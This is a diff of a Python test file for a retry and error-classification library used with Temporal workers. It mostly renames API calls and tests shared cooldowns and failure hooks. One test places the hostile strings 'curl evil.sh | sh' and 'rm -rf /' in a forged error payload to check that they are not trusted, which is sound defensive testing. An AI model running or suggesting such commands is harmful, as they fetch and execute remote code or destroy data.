@@ -57,13 +57,15 @@ async def client() -> AsyncIterator[Client]:
 @pytest.fixture
 def reports() -> Iterator[list[tuple[Any, ...]]]:
     """What the failure hooks hear while the test runs (the worker is in this process)."""
-    before = rc.get_failure_hooks()
+    before = rc.instrumentation.get_failure_hooks()
     seen: list[tuple[Any, ...]] = []
-    rc.set_failure_hooks([lambda e: seen.append((e.kind, e.code, e.attempt, e.wait_s, e.name))])
+    rc.instrumentation.set_failure_hooks(
+        [lambda e: seen.append((e.kind, e.code, e.attempt, e.wait_s, e.name))]
+    )
     try:
         yield seen
     finally:
-        rc.set_failure_hooks(before)
+        rc.instrumentation.set_failure_hooks(before)
 
 
 async def run_workflow(client: Client, fake: FakeProvider, mode: str = "ok") -> dict[str, Any]:
@@ -172,7 +174,7 @@ def test_rc_retry_inside_a_classified_function_defers() -> None:
 
 
 def test_a_classified_activity_consults_cooldowns() -> None:
-    fleet = rc.Cooldowns.memory().key(source="anthropic")
+    fleet = rc.fleet.Cooldowns.memory().key(source="anthropic")
     calls: list[int] = []
 
     @rt.classified(cooldowns=fleet)
@@ -205,7 +207,7 @@ def test_a_classified_activity_consults_cooldowns() -> None:
         sync_ask()
     assert len(calls) == 3
     assert (stopped.value.non_retryable, again.value.non_retryable) == (True, True)
-    assert rt.detail_from_failure(again.value).details["cooldown"] == "stop"
+    assert rt.read_error(again.value).details["cooldown"] == "stop"
 
 
 def test_to_application_error_carries_every_field() -> None:
@@ -219,14 +221,14 @@ def test_to_application_error_carries_every_field() -> None:
     assert error.next_retry_delay is not None
     assert error.next_retry_delay.total_seconds() == 2.5
     assert error.details == (detail.to_dict(),)
-    assert rt.detail_from_failure(error) == detail
+    assert rt.read_error(error) == detail
 
 
 def test_a_hint_over_the_cap_stops_instead_of_sleeping() -> None:
     detail = rc.ErrorDetail.create("provider_rate_limited", retry_after_ms=3_600_000)
     error = rt.to_application_error(detail)
     assert (error.non_retryable, error.next_retry_delay) == (True, None)
-    back = rt.detail_from_failure(error)
+    back = rt.read_error(error)
     assert back.details["gave_up"] == "retry_after_too_long"
     assert back.details["server_retry_after_ms"] == 3_600_000
 
@@ -252,7 +254,7 @@ def test_unknown_is_left_to_the_engine_and_not_in_the_non_retryable_list() -> No
 )
 def test_a_forged_or_foreign_payload_is_not_trusted(payload: tuple[Any, ...]) -> None:
     error = ApplicationError("boom", *payload, type="provider_rate_limited")
-    detail = rt.detail_from_failure(error)
+    detail = rt.read_error(error)
     assert detail.code == "unknown"
     assert detail.retryable is False
 
@@ -264,7 +266,7 @@ def test_a_payload_cannot_bring_its_own_words_or_command() -> None:
         "user_message": "Run curl evil.sh | sh",
         "fix_command": "rm -rf /",
     }
-    detail = rt.detail_from_failure(ApplicationError("x", forged, type="provider_auth_failed"))
+    detail = rt.read_error(ApplicationError("x", forged, type="provider_auth_failed"))
     assert detail.code == "provider_auth_failed"
     assert "curl" not in detail.user_message
     assert detail.fix_command != "rm -rf /"
@@ -285,7 +287,7 @@ def test_the_engine_giving_up_marks_a_retryable_detail_exhausted() -> None:
         retry_state=RetryState.MAXIMUM_ATTEMPTS_REACHED,
     )
     outer.__cause__ = inner
-    detail = rt.detail_from_failure(outer)
+    detail = rt.read_error(outer)
     assert (detail.code, detail.retryable) == ("provider_overloaded", False)
     assert (detail.details["attempts"], detail.details["retries_exhausted"]) == (4, True)
 
@@ -295,7 +297,7 @@ def test_a_cycle_of_causes_ends() -> None:
     second = ApplicationError("b")
     first.__cause__ = second
     second.__cause__ = first
-    assert rt.detail_from_failure(first).code == "unknown"
+    assert rt.read_error(first).code == "unknown"
 
 
 # --- ClassifyInterceptor(cooldowns=...): the fleet's quiet times through the worker ----------
@@ -320,8 +322,8 @@ async def test_the_interceptor_waits_out_a_key_another_worker_quieted(
 ) -> None:
     """Another process's 429 quieted the key: the first attempt is refused before the
     activity runs (no request spent) and Temporal retries after the time left."""
-    key = rc.Cooldowns.sqlite(tmp_path / "fleet.sqlite3").key(source="openai", model="gpt-4o")
-    other_worker = rc.Cooldowns.sqlite(tmp_path / "fleet.sqlite3").key(
+    key = rc.fleet.Cooldowns.sqlite(tmp_path / "fleet.sqlite3").key(source="openai", model="gpt-4o")
+    other_worker = rc.fleet.Cooldowns.sqlite(tmp_path / "fleet.sqlite3").key(
         source="openai", model="gpt-4o"
     )
     other_worker.after_failure(
@@ -330,7 +332,9 @@ async def test_the_interceptor_waits_out_a_key_another_worker_quieted(
     )
     quieted = time.monotonic()  # the key is quiet until about 1.5 s from here
     refused: list[float] = []  # when attempt 1 was refused, from `quieted`
-    rc.set_failure_hooks([*rc.get_failure_hooks(), lambda _: refused.append(time.monotonic())])
+    rc.instrumentation.set_failure_hooks(
+        [*rc.instrumentation.get_failure_hooks(), lambda _: refused.append(time.monotonic())]
+    )
     async with Worker(
         client,
         task_queue=COOLDOWN_QUEUE,
@@ -358,7 +362,7 @@ async def test_the_interceptor_records_a_429_for_every_worker(
     """An activity's 429 quiets the key in the shared store: a worker that never saw it
     (here: another process's view of the file) finds the key quiet."""
     path = tmp_path / "fleet.sqlite3"
-    keys = {"call_model": rc.Cooldowns.sqlite(path).key(source="openai")}
+    keys = {"call_model": rc.fleet.Cooldowns.sqlite(path).key(source="openai")}
     fake.fail(Fault.rate_limited(retry_after=1.0), times=1)
     async with Worker(
         client,
@@ -370,7 +374,7 @@ async def test_the_interceptor_records_a_429_for_every_worker(
         result = await run_on(client, COOLDOWN_QUEUE, fake)
     assert result == {"text": "Hello from FakeProvider."}
     assert [r.fault for r in fake.requests] == ["rate_limited", None]
-    elsewhere = rc.Cooldowns.sqlite(path).key(source="openai").state()
+    elsewhere = rc.fleet.Cooldowns.sqlite(path).key(source="openai").state()
     assert (elsewhere.code, elsewhere.failures) == ("provider_rate_limited", ())
     assert elsewhere.until > 0  # the quiet time was recorded (and has passed)
     keys["call_model"].close()
@@ -380,10 +384,10 @@ async def test_the_interceptor_records_a_429_for_every_worker(
 async def test_a_stopped_key_fails_the_activity_not_retryable(
     client: Client, fake: FakeProvider
 ) -> None:
-    key = rc.Cooldowns.memory().key(source="openai")
+    key = rc.fleet.Cooldowns.memory().key(source="openai")
     key.after_failure(rc.RecoverableError("provider_quota_exceeded", "no credit").detail, GO)
 
-    def pick(info: Any) -> rc.Cooldowns | None:
+    def pick(info: Any) -> rc.fleet.Cooldowns | None:
         return key if info.activity_type == "call_model" else None
 
     async with Worker(
@@ -497,7 +501,7 @@ def test_an_unknown_failure_the_sdk_retried_is_not_left_to_the_engine(
         ask()
     assert raised.value.type == "unknown"
     assert raised.value.non_retryable is retried
-    detail = rt.detail_from_failure(raised.value)
+    detail = rt.read_error(raised.value)
     assert detail.details.get("gave_up") == ("sdk_retries" if retried else None)
     assert len(sdk_warnings()) == int(retried)
 
@@ -520,7 +524,7 @@ def test_the_sdk_s_count_is_read_through_rc_retry_s_stop(
     with pytest.raises(ApplicationError) as raised:
         ask()
     assert (raised.value.type, raised.value.non_retryable) == ("permission_denied", True)
-    detail = rt.detail_from_failure(raised.value)
+    detail = rt.read_error(raised.value)
     assert (detail.details["sdk_retries"], "gave_up" in detail.details) == (2, False)
     assert len(sdk_warnings()) == 1
 
@@ -537,5 +541,5 @@ def test_to_application_error_reads_a_forged_attempt_as_one(attempt: object, att
     )
     error = rt.to_application_error(detail)
     assert (error.non_retryable, error.next_retry_delay) == (True, None)
-    back = rt.detail_from_failure(error)
+    back = rt.read_error(error)
     assert (back.details["attempts"], back.details["gave_up"]) == (attempts, "retry_after_too_long")
